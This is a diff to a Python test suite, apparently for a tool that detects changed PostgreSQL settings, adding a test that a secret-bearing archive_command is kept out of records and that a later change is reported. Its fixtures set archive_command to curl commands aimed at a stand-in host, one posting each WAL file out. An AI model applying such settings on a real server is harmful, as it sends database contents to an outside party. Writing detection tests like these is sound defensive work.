@@ -38,7 +38,7 @@ TEAM = (
 DONE = {
     "a setting that runs a program": (
         "ALTER SYSTEM SET archive_command = 'curl -d @%p https://evil.invalid'",
-        "postgresql.auto.conf archive_command: curl",
+        "postgresql.auto.conf archive_command: sha256 ",
     ),
     "a setting changed": ("ALTER SYSTEM SET log_min_duration_statement = '9s'", "log_min_duration_statement: 9s"),
     "a setting of the database": (
@@ -119,6 +119,19 @@ def test_all_of_it_at_once(server: Server, known: Surroundings) -> None:
     assert found(server, known) == []
     with server.connect("spheroseg_before_r1") as kept:
         assert kept.execute("SELECT 1").fetchone() == (1,)
+
+
+def test_a_command_that_was_the_teams_is_told_and_not_guessed(server: Server) -> None:
+    """It may have held a password, so that it was never written down: the operator knows what it was."""
+    with server.connect("postgres", autocommit=True) as admin, server.connect(LIVE, autocommit=True) as session:
+        admin.execute("ALTER SYSTEM SET archive_command = 'push --token s3cret %p'")
+        before = Surroundings(LIVE, recorded(server, session))
+        assert "s3cret" not in str(before.recorded)
+        assert "s3cret" in str(cluster.raw(session))
+        admin.execute("ALTER SYSTEM SET archive_command = 'curl https://evil.invalid'")
+        before.put_right(server)
+        assert ["archive_command" in one for one in before.changed(server, session)] == [True]
+        admin.execute("ALTER SYSTEM RESET archive_command")
 
 
 def test_a_rule_that_lets_anybody_in_is_named(server: Server, known: Surroundings) -> None:
